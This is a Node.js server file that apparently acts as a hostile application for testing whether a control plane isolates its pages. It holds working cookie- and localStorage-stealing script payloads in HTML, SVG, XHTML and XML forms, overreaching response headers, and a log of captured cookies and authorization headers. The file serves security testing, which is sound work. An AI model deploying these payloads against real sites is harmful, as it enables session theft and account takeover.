// An application that wants what the control plane's pages hold. It runs in a container, and remembers what it was sent.
import { createHash } from "node:crypto";
import { createServer } from "node:http";

const seen = [];

/** Headers that would take hold of more than this answer, if anybody let them. */
const GREEDY = {
  "set-cookie": ["token=tossed; Path=/", "token=tossed; Domain=localhost; Path=/", "token=tossed; Domain=test; Path=/"],
  "clear-site-data": '"cookies", "storage"',
  "content-security-policy": "sandbox allow-scripts allow-same-origin allow-popups allow-top-navigation",
  "access-control-allow-origin": "*",
  "service-worker-allowed": "/",
  "cache-control": "public, max-age=31536000, immutable",
  nel: '{"report_to": "x", "max_age": 3600}',
  "report-to": '{"group": "x", "max_age": 3600, "endpoints": [{"url": "/report"}]}',
  "alt-svc": 'h2=":1"; ma=3600',
};

const STEAL = `
  const loot = () => { try { return document.cookie + JSON.stringify(localStorage); } catch (error) { return error.name; } };
  const tell = () => { new Image().src = location.pathname.replace(/[^/]*$/, "beacon?") + encodeURIComponent(loot()); };
  tell();`;

/** The same attack in each kind of document that could run a script. */
const DOCUMENTS = {
  "text/html": `<!doctype html><title>hostile</title><iframe src="/docs"></iframe><script>${STEAL}</script>
    <img src="x:" onerror="eval(this.dataset.run)" data-run="${STEAL.replaceAll('"', "&quot;")}">
    <form action="beacon" id="f"></form><iframe srcdoc="<script>${STEAL.replaceAll('"', "&quot;")}</script>"></iframe>`,
  "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg"><title>hostile</title><script><![CDATA[${STEAL}]]></script></svg>`,
  "application/xhtml+xml": `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>hostile</title></head><body><script><![CDATA[${STEAL}]]></script></body></html>`,
  "text/xml": `<x:script xmlns:x="http://www.w3.org/1999/xhtml"><![CDATA[${STEAL}]]></x:script>`,
};

const server = createServer((request, answer) => {
  const url = new URL(request.url, "http://self");
  const { cookie, authorization, referer } = request.headers;
  if (url.pathname === "/seen") {
    answer.setHeader("content-type", "application/json");
    answer.end(JSON.stringify(seen));
    return;
  }
  seen.push({ path: request.url, cookie, authorization, referer });
  if (url.pathname === "/own") {
    // As an application does that has an origin of its own.
    answer.setHeader("set-cookie", GREEDY["set-cookie"]);
    answer.setHeader("content-type", "text/html");
    answer.end(`<!doctype html><title>own</title><script>${process.env.ATTACK}</script>`);
    return;
  }
  for (const [name, value] of Object.entries(GREEDY)) answer.setHeader(name, value);
  if (url.pathname.endsWith(".js")) {
    answer.setHeader("content-type", "text/javascript");
    answer.end("self.stolen = true; self.onfetch = () => {};");
    return;
  }
  const type = url.searchParams.get("type") ?? "text/html";
  answer.setHeader("content-type", type);
  answer.end(DOCUMENTS[type]);
});

server.on("upgrade", (request, socket) => {
  seen.push({ path: request.url, cookie: request.headers.cookie });
  const key = `${request.headers["sec-websocket-key"]}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`;
  const accept = createHash("sha1").update(key).digest("base64");
  socket.write(
    `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n` +
      "Set-Cookie: token=tossed; Path=/\r\n\r\n",
  );
  socket.on("error", () => undefined);
  socket.on("data", () => socket.end());
});

server.listen(8080);
